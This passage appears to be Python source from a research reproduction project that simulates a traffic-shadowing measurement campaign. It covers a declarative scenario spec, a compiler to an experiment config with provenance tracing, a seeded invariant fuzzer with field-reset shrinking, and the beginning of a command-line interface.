:mod:`repro.scenario.compiler`, which lowers a spec into one
:class:`~repro.core.config.ExperimentConfig` with a full provenance
trace.
"""

import dataclasses
import json
import hashlib
import pathlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple, Union

SCENARIO_FORMAT_VERSION = 1


class ScenarioError(ValueError):
    """One or more invalid scenario fields, each named by dotted path."""

    def __init__(self, problems: Union[str, List[str]]):
        if isinstance(problems, str):
            problems = [problems]
        self.problems = list(problems)
        super().__init__(
            "invalid scenario: " + "; ".join(self.problems)
        )


# -- section dataclasses ----------------------------------------------------
#
# Every field is a scalar (int/float/bool/str or Optional[int]) so that
# the fuzzer's shrinking-by-field-reset operates on a flat, enumerable
# field space and canonical JSON stays trivially diffable.

@dataclass(frozen=True)
class FleetSpec:
    """VP fleet scale and vetting policy."""

    vp_scale: float = 0.02
    exclude_ttl_reset_providers: bool = True
    pair_resolver_filter: bool = True


@dataclass(frozen=True)
class TopologySpec:
    """Destination pools and the (VP, destination) pairing shape."""

    web_site_count: int = 120
    web_destination_count: int = 48
    web_vps_per_destination: int = 12
    dns_vps_per_destination: Optional[int] = None


@dataclass(frozen=True)
class ObserverSpec:
    """Observer population and mix."""

    interceptors_enabled: bool = True
    interceptor_asn_fraction: float = 0.08
    sniffer_density_scale: float = 1.0
    ech_adoption: float = 0.0
    cache_refreshing_resolvers: bool = False
    doh_adoption: float = 0.0
    ciphertext_observer_share: float = 0.0
    ciphertext_threshold: float = 0.6
    ciphertext_fpr: float = 0.0
    ciphertext_link_threshold: int = 3
    nod_noise_rate: float = 0.0


@dataclass(frozen=True)
class RetentionSpec:
    """Per-observer-class retention capacities (None = unbounded)."""

    onpath_capacity: Optional[int] = None
    resolver_capacity: Optional[int] = None
    destination_capacity: Optional[int] = None


@dataclass(frozen=True)
class TimingSpec:
    """Campaign cadence and Phase II shape (windows in virtual days)."""

    send_spacing: float = 0.5
    phase1_rounds: int = 1
    round_interval_days: float = 2.0
    observation_window_days: float = 30.0
    phase2_observation_window_days: float = 12.0
    phase2_max_ttl: int = 64
    phase2_paths_per_destination: int = 12
    wildcard_record_ttl: int = 3600


@dataclass(frozen=True)
class FaultsSpec:
    """Fault plan rates; all-zero means fair weather (no plan compiled)."""

    seed: int = 0
    link_loss_rate: float = 0.0
    vp_churn_rate: float = 0.0
    honeypot_outages_per_site: int = 0
    log_delay_rate: float = 0.0
    log_duplicate_rate: float = 0.0


@dataclass(frozen=True)
class EngineSpec:
    """Execution-engine knobs (never change measured behaviour)."""

    workers: int = 1
    telemetry: bool = False


@dataclass(frozen=True)
class Scenario:
    """One named, fully declarative ecosystem + campaign description."""

    name: str
    description: str = ""
    seed: int = 20240301
    zone: str = "www.experiment.domain"
    fleet: FleetSpec = FleetSpec()
    topology: TopologySpec = TopologySpec()
    observers: ObserverSpec = ObserverSpec()
    retention: RetentionSpec = RetentionSpec()
    timing: TimingSpec = TimingSpec()
    faults: FaultsSpec = FaultsSpec()
    engine: EngineSpec = EngineSpec()

    def to_dict(self) -> dict:
        """The canonical fully-explicit dict form (every field present)."""
        payload = {
            "format": SCENARIO_FORMAT_VERSION,
            "name": self.name,
            "description": self.description,
            "seed": self.seed,
            "zone": self.zone,
        }
        for section_name, _ in _SECTIONS:
            payload[section_name] = dataclasses.asdict(getattr(self, section_name))
        return payload

    def digest(self) -> str:
        """Content hash of the canonical compact JSON form."""
        canonical = json.dumps(self.to_dict(), sort_keys=True,
                               separators=(",", ":"))
        return hashlib.sha256(canonical.encode()).hexdigest()


_SECTIONS: Tuple[Tuple[str, type], ...] = (
    ("fleet", FleetSpec),
    ("topology", TopologySpec),
    ("observers", ObserverSpec),
    ("retention", RetentionSpec),
    ("timing", TimingSpec),
    ("faults", FaultsSpec),
    ("engine", EngineSpec),
)

# Field kind table: how each scalar parses.  Derived from the dataclass
# defaults once at import; Optional[...] fields are listed explicitly
# because a None default erases the underlying type.
_OPTIONAL_INT_FIELDS = {
    ("topology", "dns_vps_per_destination"),
    ("retention", "onpath_capacity"),
    ("retention", "resolver_capacity"),
    ("retention", "destination_capacity"),
}


def _field_kind(section_name: str, spec_field: dataclasses.Field) -> str:
    if (section_name, spec_field.name) in _OPTIONAL_INT_FIELDS:
        return "optional_int"
    default = spec_field.default
    if isinstance(default, bool):
        return "bool"
    if isinstance(default, int):
        return "int"
    if isinstance(default, float):
        return "float"
    if isinstance(default, str):
        return "str"
    raise AssertionError(
        f"unsupported spec field type for {section_name}.{spec_field.name}"
    )


def _coerce(value, kind: str, path: str, problems: List[str]):
    """Coerce one JSON scalar to its spec kind, or record a problem."""
    if kind == "optional_int" and value is None:
        return None
    if kind == "bool":
        if isinstance(value, bool):
            return value
    elif kind in ("int", "optional_int"):
        if isinstance(value, int) and not isinstance(value, bool):
            return value
    elif kind == "float":
        if isinstance(value, (int, float)) and not isinstance(value, bool):
            return float(value)
    elif kind == "str":
        if isinstance(value, str):
            return value
    expected = {"optional_int": "integer or null", "int": "integer",
                "float": "number", "bool": "boolean", "str": "string"}[kind]
    problems.append(f"{path}: expected {expected}, got {value!r}")
    return None


def _parse_section(cls, data: object, path: str, problems: List[str]):
    if data is None:
        return cls()
    if not isinstance(data, dict):
        problems.append(f"{path}: expected an object, got {data!r}")
        return cls()
    known = {f.name: f for f in dataclasses.fields(cls)}
    for unknown in sorted(set(data) - set(known)):
        problems.append(f"{path}.{unknown}: unknown field")
    kwargs = {}
    for name, spec_field in known.items():
        if name not in data:
            continue
        before = len(problems)
        value = _coerce(data[name], _field_kind(path.split(".")[-1], spec_field),
                        f"{path}.{name}", problems)
        if len(problems) == before:
            kwargs[name] = value
    return cls(**kwargs)


def parse_scenario(data: object) -> Scenario:
    """Build a :class:`Scenario` from its dict form, strictly.

    Unknown keys, missing required keys, wrong types, and unsupported
    format versions all raise :class:`ScenarioError` with one problem
    line per offence.
    """
    if not isinstance(data, dict):
        raise ScenarioError(f"top level: expected an object, got {data!r}")
    problems: List[str] = []
    known_top = {"format", "name", "description", "seed", "zone"}
    known_top.update(name for name, _ in _SECTIONS)
    for unknown in sorted(set(data) - known_top):
        problems.append(f"{unknown}: unknown field")

    version = data.get("format", SCENARIO_FORMAT_VERSION)
    if version != SCENARIO_FORMAT_VERSION:
        problems.append(
            f"format: unsupported scenario format {version!r}; this build "
            f"reads format {SCENARIO_FORMAT_VERSION}"
        )
    if "name" not in data:
        problems.append("name: required field is missing")
        name = ""
    else:
        name = _coerce(data["name"], "str", "name", problems) or ""
        if not problems[-1:] or not problems[-1].startswith("name:"):
            if not name:
                problems.append("name: must be a non-empty string")
    description = _coerce(data.get("description", ""), "str", "description",
                          problems) or ""
    seed = data.get("seed", 20240301)
    seed = _coerce(seed, "int", "seed", problems)
    zone = _coerce(data.get("zone", "www.experiment.domain"), "str", "zone",
                   problems)
    sections = {}
    for section_name, cls in _SECTIONS:
        sections[section_name] = _parse_section(
            cls, data.get(section_name), section_name, problems)
    if problems:
        raise ScenarioError(problems)
    return Scenario(name=name, description=description, seed=seed, zone=zone,
                    **sections)


def serialize_scenario(spec: Scenario) -> str:
    """The canonical JSON text form (stable key order, trailing newline)."""
    return json.dumps(spec.to_dict(), sort_keys=True, indent=2) + "\n"


def loads_scenario(text: str) -> Scenario:
    """Parse scenario JSON text; malformed JSON is a :class:`ScenarioError`."""
    try:
        data = json.loads(text)
    except json.JSONDecodeError as exc:
        raise ScenarioError(f"not valid JSON: {exc}") from exc
    return parse_scenario(data)


def load_scenario_file(path: Union[str, pathlib.Path]) -> Scenario:
    """Load one scenario from a JSON file on disk."""
    file_path = pathlib.Path(path)
    try:
        text = file_path.read_text()
    except OSError as exc:
        raise ScenarioError(f"cannot read {file_path}: {exc}") from exc
    try:
        return loads_scenario(text)
    except ScenarioError as exc:
        raise ScenarioError(
            [f"{file_path}: {problem}" for problem in exc.problems]
        ) from exc


# -- flat field access (shrinking support) ----------------------------------

def flat_fields() -> List[str]:
    """Every shrinkable dotted field path, top-level scalars included.

    ``name``/``description`` are identity, not behaviour, so they are
    excluded — resetting them could never flip an invariant.
    """
    paths = ["seed", "zone"]
    for section_name, cls in _SECTIONS:
        paths.extend(f"{section_name}.{f.name}"
                     for f in dataclasses.fields(cls))
    return paths


def get_field(spec: Scenario, path: str):
    """Read one dotted field path from a spec."""
    target = spec
    for part in path.split("."):
        target = getattr(target, part)
    return target


def with_field(spec: Scenario, path: str, value) -> Scenario:
    """A copy of ``spec`` with one dotted field replaced."""
    parts = path.split(".")
    if len(parts) == 1:
        return dataclasses.replace(spec, **{parts[0]: value})
    if len(parts) != 2:
        raise ScenarioError(f"{path}: not a scenario field path")
    section_name, field_name = parts
    section = getattr(spec, section_name)
    return dataclasses.replace(
        spec, **{section_name: dataclasses.replace(section,
                                                   **{field_name: value})})

"""Pure, deterministic lowering: :class:`Scenario` -> ExperimentConfig.

The compiler is a closed mapping table.  Every ``ExperimentConfig``
field is produced by exactly one row, each row names the spec field it
reads (or the pinned default it applies), and
:func:`compile_with_trace` returns that provenance alongside the config
— so "where did this knob come from?" is always answerable, and the
test suite can prove the table covers the whole config surface.

No randomness, no I/O, no clocks: compiling the same spec twice yields
equal configs byte-for-byte (``dataclasses.asdict`` equality), which is
what lets fuzz-run digests reproduce across processes and machines.
"""

import dataclasses
from typing import Dict, Tuple

from repro.core.config import ConfigError, ExperimentConfig
from repro.faults.plan import FaultSpec
from repro.scenario.spec import Scenario, ScenarioError
from repro.simkit.units import DAY

# One row per ExperimentConfig field: (config field, spec path read by
# the compiler, lowering function).  Rows whose spec path starts with
# "default:" are pinned defaults — the spec deliberately does not cover
# them (diagnostics and ephemeral outputs are not ecosystem shape).
_MAPPING: Tuple[Tuple[str, str, object], ...] = (
    ("seed", "seed", lambda s: s.seed),
    ("zone", "zone", lambda s: s.zone),
    ("vp_scale", "fleet.vp_scale", lambda s: s.fleet.vp_scale),
    ("exclude_ttl_reset_providers", "fleet.exclude_ttl_reset_providers",
     lambda s: s.fleet.exclude_ttl_reset_providers),
    ("pair_resolver_filter", "fleet.pair_resolver_filter",
     lambda s: s.fleet.pair_resolver_filter),
    ("web_site_count", "topology.web_site_count",
     lambda s: s.topology.web_site_count),
    ("web_destination_count", "topology.web_destination_count",
     lambda s: s.topology.web_destination_count),
    ("web_vps_per_destination", "topology.web_vps_per_destination",
     lambda s: s.topology.web_vps_per_destination),
    ("dns_vps_per_destination", "topology.dns_vps_per_destination",
     lambda s: s.topology.dns_vps_per_destination),
    ("dns_destination_count", "default: None (full resolver pool; the cap "
     "exists for scale benchmarks, not ecosystem shape)", lambda s: None),
    ("interceptors_enabled", "observers.interceptors_enabled",
     lambda s: s.observers.interceptors_enabled),
    ("interceptor_asn_fraction", "observers.interceptor_asn_fraction",
     lambda s: s.observers.interceptor_asn_fraction),
    ("sniffer_density_scale", "observers.sniffer_density_scale",
     lambda s: s.observers.sniffer_density_scale),
    ("ech_adoption", "observers.ech_adoption",
     lambda s: s.observers.ech_adoption),
    ("cache_refreshing_resolvers", "observers.cache_refreshing_resolvers",
     lambda s: s.observers.cache_refreshing_resolvers),
    ("doh_adoption", "observers.doh_adoption",
     lambda s: s.observers.doh_adoption),
    ("ciphertext_observer_share", "observers.ciphertext_observer_share",
     lambda s: s.observers.ciphertext_observer_share),
    ("ciphertext_threshold", "observers.ciphertext_threshold",
     lambda s: s.observers.ciphertext_threshold),
    ("ciphertext_fpr", "observers.ciphertext_fpr",
     lambda s: s.observers.ciphertext_fpr),
    ("ciphertext_link_threshold", "observers.ciphertext_link_threshold",
     lambda s: s.observers.ciphertext_link_threshold),
    ("nod_noise_rate", "observers.nod_noise_rate",
     lambda s: s.observers.nod_noise_rate),
    ("onpath_retention_capacity", "retention.onpath_capacity",
     lambda s: s.retention.onpath_capacity),
    ("resolver_retention_capacity", "retention.resolver_capacity",
     lambda s: s.retention.resolver_capacity),
    ("destination_retention_capacity", "retention.destination_capacity",
     lambda s: s.retention.destination_capacity),
    ("send_spacing", "timing.send_spacing", lambda s: s.timing.send_spacing),
    ("phase1_rounds", "timing.phase1_rounds",
     lambda s: s.timing.phase1_rounds),
    ("round_interval", "timing.round_interval_days",
     lambda s: s.timing.round_interval_days * DAY),
    ("observation_window", "timing.observation_window_days",
     lambda s: s.timing.observation_window_days * DAY),
    ("phase2_observation_window", "timing.phase2_observation_window_days",
     lambda s: s.timing.phase2_observation_window_days * DAY),
    ("phase2_max_ttl", "timing.phase2_max_ttl",
     lambda s: s.timing.phase2_max_ttl),
    ("phase2_paths_per_destination", "timing.phase2_paths_per_destination",
     lambda s: s.timing.phase2_paths_per_destination),
    ("wildcard_record_ttl", "timing.wildcard_record_ttl",
     lambda s: s.timing.wildcard_record_ttl),
    ("faults", "faults.*", lambda s: _compile_faults(s)),
    ("workers", "engine.workers", lambda s: s.engine.workers),
    ("telemetry", "engine.telemetry", lambda s: s.engine.telemetry),
    ("capture_pcap", "default: None (pcap capture is a CLI/diagnostic "
     "concern, not ecosystem shape)", lambda s: None),
)


def _compile_faults(spec: Scenario):
    """The spec's fault plan as a FaultSpec, or None in fair weather."""
    faults = spec.faults
    if not (faults.link_loss_rate or faults.vp_churn_rate
            or faults.honeypot_outages_per_site
            or faults.log_delay_rate or faults.log_duplicate_rate):
        return None
    return FaultSpec(
        seed=faults.seed,
        link_loss_rate=faults.link_loss_rate,
        vp_churn_rate=faults.vp_churn_rate,
        honeypot_outages_per_site=faults.honeypot_outages_per_site,
        log_delay_rate=faults.log_delay_rate,
        log_duplicate_rate=faults.log_duplicate_rate,
    )


def compile_with_trace(spec: Scenario) -> Tuple[ExperimentConfig,
                                                Dict[str, str]]:
    """Lower a spec to a validated config plus per-field provenance.

    The trace maps every ``ExperimentConfig`` field name to the spec
    field path (or pinned default) it came from.  Invalid values —
    whether rejected by :class:`FaultSpec` construction or by
    ``ExperimentConfig.validate()`` — surface as :class:`ScenarioError`
    so callers handle one structured error vocabulary.
    """
    config_fields = {f.name for f in dataclasses.fields(ExperimentConfig)}
    mapped = [name for name, _, _ in _MAPPING]
    if set(mapped) != config_fields or len(mapped) != len(config_fields):
        missing = sorted(config_fields - set(mapped))
        stale = sorted(set(mapped) - config_fields)
        raise AssertionError(
            "scenario compiler mapping is out of sync with "
            f"ExperimentConfig: missing={missing} stale={stale}"
        )
    kwargs = {}
    trace: Dict[str, str] = {}
    problems = []
    for config_field, spec_path, lower in _MAPPING:
        try:
            kwargs[config_field] = lower(spec)
        except ValueError as exc:
            problems.append(f"{spec_path}: {exc}")
            continue
        trace[config_field] = spec_path
    if problems:
        raise ScenarioError(problems)
    try:
        config = ExperimentConfig(**kwargs)
        config.validate()
    except ConfigError as exc:
        raise ScenarioError(
            [f"compiled config rejected — {problem}"
             for problem in exc.problems]
        ) from exc
    return config, trace


def compile_scenario(spec: Scenario) -> ExperimentConfig:
    """Lower a spec to its validated :class:`ExperimentConfig`."""
    config, _ = compile_with_trace(spec)
    return config

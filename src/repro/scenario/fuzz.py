"""Seeded scenario fuzzer: generated ecosystems, checked invariants.

The pipeline's hard-won guarantees — serial == sharded digests,
streaming == batch artifacts, correlation soundness — were each pinned
against hand-written configs.  This module turns them into properties
over *generated* ecosystems: every sample is a random valid
:class:`Scenario` drawn from keyed RNG substreams (pure function of
``(fuzz seed, sample index)``, so two fuzz runs of the same seed
produce byte-identical sample populations on any machine), and every
sample must uphold each applicable invariant end to end.

When a sample fails, :func:`shrink` reduces it by *field reset*: one
spec field at a time is reset to the all-defaults baseline, keeping any
reset that still fails, until no single reset preserves the failure.
The result is a minimal failing spec plus the (usually tiny) set of
fields that actually provoke the bug.
"""

import dataclasses
import hashlib
import json
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.scenario.compiler import compile_scenario
from repro.scenario.spec import (
    Scenario,
    ScenarioError,
    flat_fields,
    get_field,
    with_field,
)
from repro.simkit.rng import SubstreamFactory

FUZZ_SCENARIO_PREFIX = "fuzz"

# Invariant identifiers, in evaluation order.
INVARIANT_COMPILE = "compile-validate"
INVARIANT_SOUNDNESS = "correlation-soundness"
INVARIANT_STREAMING = "streaming-equals-batch"
INVARIANT_SHARDED = "serial-equals-sharded"
INVARIANT_REPLAY = "serial-replay-determinism"

ALL_INVARIANTS = (INVARIANT_COMPILE, INVARIANT_SOUNDNESS,
                  INVARIANT_STREAMING, INVARIANT_SHARDED, INVARIANT_REPLAY)


# -- generation -------------------------------------------------------------

def generate_scenario(seed: int, index: int) -> Scenario:
    """Sample ``index`` of the fuzz population for ``seed``.

    Scales are kept well under the laptop default so a sample's full
    invariant check (two complete pipeline runs) stays in low single-
    digit seconds; the *shape* space — observer mixes, retention
    pressure, fault weather, ECH adoption, topology skew — is what the
    fuzzer explores.
    """
    draw = SubstreamFactory(seed, "scenario.fuzz").derive(index)
    retention_bound = draw.random() < 0.3
    spec = Scenario(
        name=f"{FUZZ_SCENARIO_PREFIX}-{seed}-{index}",
        description=f"generated sample {index} of fuzz seed {seed}",
        seed=draw.randrange(1, 1_000_000),
    )
    spec = with_field(spec, "fleet.vp_scale",
                      round(draw.uniform(0.003, 0.007), 5))
    spec = with_field(spec, "fleet.exclude_ttl_reset_providers",
                      draw.random() < 0.85)
    spec = with_field(spec, "fleet.pair_resolver_filter",
                      draw.random() < 0.85)
    spec = with_field(spec, "topology.web_site_count", draw.randrange(24, 49))
    spec = with_field(spec, "topology.web_destination_count",
                      draw.randrange(8, 17))
    spec = with_field(spec, "topology.web_vps_per_destination",
                      draw.randrange(3, 7))
    spec = with_field(spec, "topology.dns_vps_per_destination",
                      None if draw.random() < 0.5 else draw.randrange(2, 6))
    spec = with_field(spec, "observers.interceptors_enabled",
                      draw.random() < 0.7)
    spec = with_field(spec, "observers.interceptor_asn_fraction",
                      round(draw.uniform(0.0, 0.15), 4))
    spec = with_field(spec, "observers.sniffer_density_scale",
                      round(draw.uniform(0.25, 1.75), 4))
    spec = with_field(spec, "observers.ech_adoption",
                      draw.choice((0.0, 0.0, 0.5, 1.0)))
    spec = with_field(spec, "observers.cache_refreshing_resolvers",
                      draw.random() < 0.2)
    if retention_bound:
        for class_field in ("retention.onpath_capacity",
                            "retention.resolver_capacity",
                            "retention.destination_capacity"):
            if draw.random() < 0.7:
                spec = with_field(spec, class_field, draw.randrange(4, 65))
    spec = with_field(spec, "timing.send_spacing",
                      round(draw.uniform(0.25, 1.0), 3))
    spec = with_field(spec, "timing.round_interval_days",
                      round(draw.uniform(1.0, 2.0), 3))
    spec = with_field(spec, "timing.observation_window_days",
                      round(draw.uniform(10.0, 16.0), 3))
    spec = with_field(spec, "timing.phase2_observation_window_days",
                      round(draw.uniform(4.0, 8.0), 3))
    spec = with_field(spec, "timing.phase2_max_ttl", draw.randrange(48, 65))
    spec = with_field(spec, "timing.phase2_paths_per_destination",
                      draw.randrange(3, 7))
    spec = with_field(spec, "timing.wildcard_record_ttl",
                      draw.randrange(1800, 7201))
    if draw.random() < 0.4:
        spec = with_field(spec, "faults.seed", draw.randrange(1, 1_000_000))
        spec = with_field(spec, "faults.link_loss_rate",
                          round(draw.uniform(0.0, 0.05), 4))
        spec = with_field(spec, "faults.vp_churn_rate",
                          round(draw.uniform(0.0, 0.2), 4))
        spec = with_field(spec, "faults.honeypot_outages_per_site",
                          draw.randrange(0, 3))
        spec = with_field(spec, "faults.log_delay_rate",
                          round(draw.uniform(0.0, 0.1), 4))
        spec = with_field(spec, "faults.log_duplicate_rate",
                          round(draw.uniform(0.0, 0.05), 4))
    # Encrypted-transport knobs (appended after the original draw
    # sequence so every pre-existing sample keeps its exact shape).
    if draw.random() < 0.35:
        spec = with_field(spec, "observers.doh_adoption",
                          draw.choice((0.3, 0.7, 1.0)))
    if draw.random() < 0.35:
        spec = with_field(spec, "observers.ciphertext_observer_share",
                          round(draw.uniform(0.2, 0.8), 4))
        spec = with_field(spec, "observers.ciphertext_threshold",
                          draw.choice((0.4, 0.6, 0.8)))
        spec = with_field(spec, "observers.ciphertext_fpr",
                          round(draw.uniform(0.0, 0.05), 4))
        spec = with_field(spec, "observers.ciphertext_link_threshold",
                          draw.randrange(2, 5))
    if draw.random() < 0.25:
        spec = with_field(spec, "observers.nod_noise_rate",
                          round(draw.uniform(0.02, 0.2), 4))
    return spec


# -- invariants -------------------------------------------------------------

@dataclass
class InvariantOutcome:
    """One sample's verdict across every invariant."""

    scenario: Scenario
    checks: Dict[str, str] = field(default_factory=dict)
    """invariant name -> "ok" | "skipped: why" | "FAIL: what"."""
    serial_digest: Optional[str] = None

    @property
    def ok(self) -> bool:
        return not self.failures

    @property
    def failures(self) -> List[str]:
        return [f"{name}: {verdict}" for name, verdict in self.checks.items()
                if verdict.startswith("FAIL")]


def _soundness_problems(result) -> List[str]:
    """Correlation soundness over one finished run.

    Every classified event must trace to a registered decoy of the
    right phase, must not precede its decoy's send time, and the
    streaming accumulators must agree with the correlation output on
    the campaign's headline counts.
    """
    problems = []
    registered = {record.domain: record for record in result.ledger.records()}
    for phase_name, correlation, expected_phase in (
            ("phase1", result.phase1, 1), ("phase2", result.phase2, 2)):
        for event in correlation.events:
            record = registered.get(event.decoy.domain)
            if record is None:
                problems.append(
                    f"{phase_name} event for {event.decoy.domain} has no "
                    "ledger record")
                continue
            if event.decoy.phase != expected_phase:
                problems.append(
                    f"{phase_name} event {event.decoy.domain} classified "
                    f"with phase {event.decoy.phase}")
            if event.request.time < record.sent_at:
                problems.append(
                    f"{phase_name} event {event.decoy.domain} at "
                    f"{event.request.time} precedes its decoy send "
                    f"{record.sent_at}")
    analysis = result.analysis
    if analysis is not None:
        if analysis.event_count != len(result.phase1.events):
            problems.append(
                f"analysis saw {analysis.event_count} events, correlation "
                f"produced {len(result.phase1.events)}")
        if analysis.log_entries != len(result.log):
            problems.append(
                f"analysis counted {analysis.log_entries} log entries, "
                f"store holds {len(result.log)}")
        if analysis.matrix.enabled:
            # Matrix soundness: an observer class can only classify
            # domains the campaign actually sent under that mitigation —
            # NOD noise or misattribution would surface as strays here.
            snap = analysis.matrix.snapshot()
            sent = {mitigation: set(domains)
                    for mitigation, domains in snap["sent"]}
            for key, domains in snap["classified"]:
                observer, mitigation = key
                stray = set(domains) - sent.get(mitigation, set())
                if stray:
                    problems.append(
                        f"matrix {observer}/{mitigation} classified "
                        f"{len(stray)} domains never sent with that "
                        "mitigation")
    return problems[:5]


def check_invariants(spec: Scenario, *, workers: int = 2) -> InvariantOutcome:
    """Run the full pipeline for one spec and judge every invariant.

    The serial-vs-sharded digest invariant applies only to shardable
    specs (bounded retention is order-dependent by design and pinned to
    ``workers == 1`` by config validation); unshardable specs run the
    serial pipeline twice and must reproduce their own digest exactly.
    """
    from repro.analysis.paperreport import full_report, full_report_from_state
    from repro.core.experiment import Experiment
    from repro.core.shard import result_digest

    outcome = InvariantOutcome(scenario=spec)
    checks = outcome.checks
    try:
        config = compile_scenario(spec)
    except ScenarioError as exc:
        checks[INVARIANT_COMPILE] = f"FAIL: {'; '.join(exc.problems)}"
        for name in ALL_INVARIANTS[1:]:
            checks[name] = "skipped: spec did not compile"
        return outcome
    checks[INVARIANT_COMPILE] = "ok"

    serial = Experiment(config).run()
    outcome.serial_digest = result_digest(serial)

    problems = _soundness_problems(serial)
    checks[INVARIANT_SOUNDNESS] = (
        "ok" if not problems else "FAIL: " + "; ".join(problems))

    batch_text = full_report(serial)
    streaming_text = full_report_from_state(serial.analysis)
    checks[INVARIANT_STREAMING] = (
        "ok" if batch_text == streaming_text else
        "FAIL: streaming report diverges from batch "
        f"({len(batch_text)} vs {len(streaming_text)} chars)")

    shardable = workers > 1 and not any(
        getattr(config, name) is not None
        for name in ("onpath_retention_capacity", "resolver_retention_capacity",
                     "destination_retention_capacity"))
    if shardable:
        sharded_config = dataclasses.replace(config, workers=workers)
        sharded = Experiment(sharded_config).run()
        sharded_digest = result_digest(sharded)
        if sharded_digest != outcome.serial_digest:
            checks[INVARIANT_SHARDED] = (
                f"FAIL: serial {outcome.serial_digest[:12]} != "
                f"{workers}-worker {sharded_digest[:12]}")
        elif full_report(sharded) != batch_text:
            checks[INVARIANT_SHARDED] = (
                "FAIL: digests match but sharded report text differs")
        else:
            checks[INVARIANT_SHARDED] = "ok"
        checks[INVARIANT_REPLAY] = "skipped: covered by sharded leg"
    else:
        checks[INVARIANT_SHARDED] = (
            "skipped: bounded retention requires workers == 1"
            if workers > 1 else "skipped: fuzz invoked with workers == 1")
        replay_digest = result_digest(Experiment(config).run())
        checks[INVARIANT_REPLAY] = (
            "ok" if replay_digest == outcome.serial_digest else
            f"FAIL: serial replay {replay_digest[:12]} != first run "
            f"{outcome.serial_digest[:12]}")
    return outcome


# -- fuzz campaign ----------------------------------------------------------

@dataclass
class FuzzSample:
    index: int
    spec_digest: str
    serial_digest: Optional[str]
    checks: Dict[str, str]
    ok: bool
    scenario: Scenario

    def to_payload(self) -> dict:
        return {
            "index": self.index,
            "spec_digest": self.spec_digest,
            "serial_digest": self.serial_digest,
            "checks": dict(sorted(self.checks.items())),
            "ok": self.ok,
        }


@dataclass
class FuzzReport:
    seed: int
    workers: int
    samples: List[FuzzSample]

    @property
    def ok(self) -> bool:
        return all(sample.ok for sample in self.samples)

    def run_digest(self) -> str:
        """One hash over every sample's spec and result digests; equal
        across two fuzz runs iff generation AND outcomes reproduced."""
        hasher = hashlib.sha256()
        for sample in self.samples:
            hasher.update(sample.spec_digest.encode())
            hasher.update((sample.serial_digest or "-").encode())
        return hasher.hexdigest()

    def to_payload(self) -> dict:
        return {
            "seed": self.seed,
            "workers": self.workers,
            "ok": self.ok,
            "run_digest": self.run_digest(),
            "samples": [sample.to_payload() for sample in self.samples],
        }

    def to_json(self) -> str:
        return json.dumps(self.to_payload(), indent=2, sort_keys=True) + "\n"


def run_fuzz(samples: int, seed: int, *, workers: int = 2,
             progress: Optional[Callable[[FuzzSample], None]] = None,
             stop_on_failure: bool = False) -> FuzzReport:
    """Generate and invariant-check ``samples`` scenarios."""
    if samples < 1:
        raise ValueError(f"samples must be >= 1, got {samples}")
    report = FuzzReport(seed=seed, workers=workers, samples=[])
    for index in range(samples):
        spec = generate_scenario(seed, index)
        outcome = check_invariants(spec, workers=workers)
        sample = FuzzSample(
            index=index,
            spec_digest=spec.digest(),
            serial_digest=outcome.serial_digest,
            checks=outcome.checks,
            ok=outcome.ok,
            scenario=spec,
        )
        report.samples.append(sample)
        if progress is not None:
            progress(sample)
        if stop_on_failure and not sample.ok:
            break
    return report


# -- shrinking --------------------------------------------------------------

def shrink(spec: Scenario, still_fails: Callable[[Scenario], bool],
           baseline: Optional[Scenario] = None,
           ) -> Tuple[Scenario, List[str]]:
    """Reduce a failing spec to a minimal failing field set.

    ``still_fails(candidate)`` must return True while the failure
    reproduces.  Each pass resets one differing field to the baseline
    (all-defaults spec of the same name/seed) and keeps the reset when
    the failure survives; passes repeat until a fixpoint.  Returns the
    shrunk spec and the dotted paths still differing from baseline —
    the minimal failing field set.
    """
    if not still_fails(spec):
        raise ValueError("shrink() needs a spec that currently fails")
    if baseline is None:
        baseline = Scenario(name=spec.name, description=spec.description)
    current = spec
    changed = True
    while changed:
        changed = False
        for path in flat_fields():
            baseline_value = get_field(baseline, path)
            if get_field(current, path) == baseline_value:
                continue
            candidate = with_field(current, path, baseline_value)
            if still_fails(candidate):
                current = candidate
                changed = True
    minimal_fields = [
        path for path in flat_fields()
        if get_field(current, path) != get_field(baseline, path)
    ]
    return current, minimal_fields

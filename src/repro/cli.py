"""Command-line interface: ``python -m repro <command>``.

Commands:

* ``run``     — execute a full campaign, print/save the paper-style report,
  optionally export the result bundle for offline analysis.
* ``report``  — regenerate the report from a previously exported bundle.
* ``platform`` — build and summarize the VPN platform (Table 1) without
  running a campaign.
* ``telemetry`` — render a telemetry capture written by ``run --telemetry``
  as human-readable tables (see docs/OBSERVABILITY.md).
* ``serve``   — run the always-on measurement daemon: live ingest over a
  socket feed, watermark checkpoints, HTTP report API (docs/SERVICE.md).
* ``feed``    — replay an exported bundle into a running daemon.
* ``scenario`` — the declarative scenario layer: list/show/compile the
  named ecosystem library, run a campaign from a scenario spec, or fuzz
  generated scenarios against the pipeline invariants
  (docs/SCENARIOS.md).
"""

import argparse
import pathlib
import sys
from typing import List, Optional

from repro.analysis.paperreport import full_report, full_report_from_state
from repro.analysis.report import render_table
from repro.core.config import ConfigError, ExperimentConfig
from repro.core.experiment import Experiment
from repro.core.persist import export_result, load_bundle
from repro.simkit.rng import RandomRouter
from repro.telemetry import load_telemetry, render_telemetry, write_telemetry
from repro.vpn.platform import VpnPlatform


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="Simulation-backed reproduction of the IMC'24 traffic-"
                    "shadowing measurement.",
    )
    commands = parser.add_subparsers(dest="command", required=True)

    run = commands.add_parser("run", help="run a full two-phase campaign")
    run.add_argument("--seed", type=int, default=20240301)
    run.add_argument("--vp-scale", type=float, default=0.02,
                     help="fraction of the paper's 4,364 VPs (default 0.02)")
    run.add_argument("--web-destinations", type=int, default=48,
                     help="HTTP/TLS decoy targets sampled from the pool")
    run.add_argument("--tiny", action="store_true",
                     help="use the fast test-sized configuration")
    run.add_argument("--workers", type=int, default=1, metavar="N",
                     help="shard the campaign across N worker processes; "
                          "results are deterministically merged and equal "
                          "to the serial run (default 1)")
    run.add_argument("--checkpoint", metavar="DIR",
                     help="flush shard payloads to DIR at phase boundaries "
                          "so a killed run can be resumed (workers > 1)")
    run.add_argument("--resume", metavar="DIR",
                     help="resume a checkpointed run from DIR: completed "
                          "shards are loaded, unfinished ones re-simulated; "
                          "config is restored from the checkpoint")
    run.add_argument("--digest", metavar="FILE",
                     help="write the run's result digest (shard.result_digest) "
                          "to FILE, for serial-vs-sharded comparison")
